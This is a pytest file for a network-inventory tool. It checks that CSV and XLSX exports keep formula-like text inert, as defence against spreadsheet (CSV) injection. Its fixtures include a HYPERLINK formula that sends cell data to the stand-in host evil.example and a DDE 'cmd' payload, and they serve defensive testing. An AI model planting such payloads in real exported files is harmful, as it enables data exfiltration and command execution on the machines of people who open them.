"""Text that a spreadsheet would run as a formula stays text in every export (OWASP CSV Injection)."""

from __future__ import annotations

import csv
import zipfile
from dataclasses import replace
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook

from netvet.ingest import import_inventory
from netvet.ingest.writers import write_inventory
from netvet.report.context import ReportData
from netvet.report.exports import write_export
from netvet.report.forms import UK_DVD_FIELDS, write_csv
from netvet.spreadsheets import is_formula_like
from netvet.storage import Database

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Huawei")'
HOSTILE = {
    "vendor": HYPERLINK,
    "asset_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "+1+1",
    "explanation": "-2+3",
    "cap_metric": "\t=1",
    "site_id": "\r=1",
}


def hostile(report_data: ReportData) -> ReportData:
    findings = report_data.findings.head(1).with_columns(
        [pl.lit(value).alias(column) for column, value in HOSTILE.items()]
    )
    return replace(report_data, findings=pl.concat([findings, report_data.findings.slice(1)]))


def test_formula_like_text_and_plain_numbers() -> None:
    for text in ("=1+1", "+A1", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "+-1", "-1-1"):
        assert is_formula_like(text), text
    for text in ("-0.1426", "+44", "-1e-5", ".5", "Huawei", "", "a=1", " =1"):
        assert not is_formula_like(text), text


def test_the_findings_csv_quotes_formula_like_cells(report_data: ReportData, tmp_path: Path) -> None:
    path = write_export(hostile(report_data), "csv", tmp_path / "f.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    first = next(r for r in rows if r["vendor"].endswith('"Huawei")'))
    assert {column: first[column] for column in HOSTILE} == {c: "'" + v for c, v in HOSTILE.items()}
    # Numbers are not formulas: a negative measured share or a plain vendor stays as it was.
    assert all(not r["vendor"].startswith("'") for r in rows if r is not first)


def test_the_findings_xlsx_writes_text_as_strings_never_formulas(
    report_data: ReportData, tmp_path: Path
) -> None:
    path = write_export(hostile(report_data), "xlsx", tmp_path / "f.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets)
    workbook = load_workbook(path)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    vendor = next(cell for cell in cells if cell.value == HYPERLINK)
    assert vendor.data_type == "s" and vendor.quotePrefix  # the value is kept exactly, shown as text
    share = next(cell for cell in cells if cell.value == 0.5)
    assert share.data_type == "n" and not share.quotePrefix


def test_the_rejects_file_quotes_formula_like_cells(sqlite_db: Database, tmp_path: Path) -> None:
    path = tmp_path / "inv.csv"
    quoted = HYPERLINK.replace('"', '""')
    path.write_text(
        f'asset_id,site_id,vendor,role,longitude,=notes\nA1,S1,"{quoted}",,-0.1426,@x\nA2,S1,Nokia,BBU,1.0,\n',
        encoding="utf-8",
    )
    rejects = tmp_path / "rejects.csv"
    report = import_inventory(sqlite_db, path, skip_invalid=True, rejects_path=rejects)
    assert report.rows_rejected == 1 and report.rows_added == 1
    with rejects.open(encoding="utf-8", newline="") as fh:
        header, *rows = list(csv.reader(fh))
    assert header == ["row", "asset_id", "site_id", "vendor", "role", "longitude", "'=notes", "errors"]
    rejected = dict(zip(header, rows[0], strict=True))
    assert rejected["vendor"] == "'" + HYPERLINK and rejected["'=notes"] == "'@x"
    assert rejected["longitude"] == "-0.1426"  # a number is not a formula


def test_regulator_form_csv_quotes_formula_like_cells(tmp_path: Path) -> None:
    row = {field.name: "" for field in UK_DVD_FIELDS}
    row[UK_DVD_FIELDS[0].name] = HYPERLINK
    path = tmp_path / "form.csv"
    write_csv([row], UK_DVD_FIELDS, path)
    with path.open(encoding="utf-8", newline="") as fh:
        written = next(csv.DictReader(fh))
    assert written[UK_DVD_FIELDS[0].name] == "'" + HYPERLINK


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_written_inventories_keep_formula_like_text_inert(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"i{suffix}"
    write_inventory([{"asset_id": "A1", "site_id": "S1", "vendor": HYPERLINK, "role": "BBU"}], path)
    if suffix == ".xlsx":
        cell = next(c for row in load_workbook(path).active.iter_rows() for c in row if c.value == HYPERLINK)
        assert cell.data_type == "s"
    else:
        assert "'" + HYPERLINK in next(csv.DictReader(path.open(encoding="utf-8")))["vendor"]
